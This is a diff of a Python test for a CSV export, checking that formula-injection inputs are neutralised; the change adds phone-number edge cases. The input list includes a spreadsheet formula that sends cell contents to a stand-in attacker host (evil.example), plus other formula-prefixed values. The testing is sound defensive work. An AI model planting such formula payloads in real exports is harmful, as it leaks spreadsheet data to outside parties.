@@ -25,6 +25,8 @@ LIST = "/api/v1/applications"
 AWKWARD_NAMES = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', "@SUM(1)", "+1", "-1", "\tTab", "\rCR",
     "line\nbreak", 'quote " inside', "comma, inside", "Zoë Ñandú", "", " leading space", "\\.", "'already",
+    # phone-shaped: kept only as "+" then 7 to 15 digits (separators allowed), anything else neutralised
+    "+250788123456", "+250 788 123 456", "-250788123456", "=250788123456", "+123456", "+1234567890123456",
 ]
 
 
@@ -74,7 +76,9 @@ def test_export_neutralises_formulas_and_keeps_numbers(app, tenant, awkward):
     rows = list(csv.DictReader(io.StringIO(export_text(app, tenant), newline="")))
     first_names = [row["personal.first_name"] for row in rows]
     assert first_names[:6] == ["'" + name for name in AWKWARD_NAMES[:6]]
-    assert first_names[6:] == AWKWARD_NAMES[6:]
+    assert first_names[6:14] == AWKWARD_NAMES[6:14]
+    assert first_names[14:] == ["+250788123456", "+250 788 123 456", "'-250788123456", "'=250788123456", "'+123456",
+                                "'+1234567890123456"]
     assert rows[0]["personal.phone"] == ""
     assert rows[1]["personal.phone"] == "+250788000000"  # a plain phone number is not quoted
     assert rows[0]["payment.amount"] == "75.50" and rows[1]["payment.amount"] == "50000.00"
